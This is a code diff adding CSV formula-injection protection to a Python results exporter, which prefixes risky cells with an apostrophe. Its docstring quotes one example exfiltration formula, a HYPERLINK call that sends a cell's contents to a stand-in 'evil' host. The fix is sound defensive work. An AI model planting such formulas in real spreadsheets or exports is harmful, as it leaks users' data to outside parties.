@@ -1,4 +1,11 @@
-"""Write a job's results as JSON Lines or CSV, streaming from the database."""
+"""Write a job's results as JSON Lines or CSV, streaming from the database.
+
+Page titles and URLs are other people's text. In CSV, a cell that starts with ``=``, ``+``,
+``-``, ``@``, a tab or a carriage return is a formula to a spreadsheet
+(``=HYPERLINK("http://evil/?"&A1)``): such cells get a leading apostrophe, as OWASP
+advises, so the spreadsheet shows the text instead of running it. JSON Lines are left as
+they are (no spreadsheet opens them as formulas).
+"""
 
 from __future__ import annotations
 
@@ -66,6 +73,16 @@ def rows(job_id: int):
         }
 
 
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise(value):
+    """A CSV cell a spreadsheet will show as text, never run as a formula."""
+    if isinstance(value, str) and value.startswith(_FORMULA_START):
+        return "'" + value
+    return value
+
+
 def write(job_id: int, path: Path) -> int:
     """Write results to ``path`` (.jsonl or .csv by suffix); returns the number of rows."""
     count = 0
@@ -74,7 +91,7 @@ def write(job_id: int, path: Path) -> int:
             writer = csv.DictWriter(out, fieldnames=FIELDS)
             writer.writeheader()
             for row in rows(job_id):
-                writer.writerow(row)
+                writer.writerow({k: neutralise(v) for k, v in row.items()})
                 count += 1
         else:
             for row in rows(job_id):
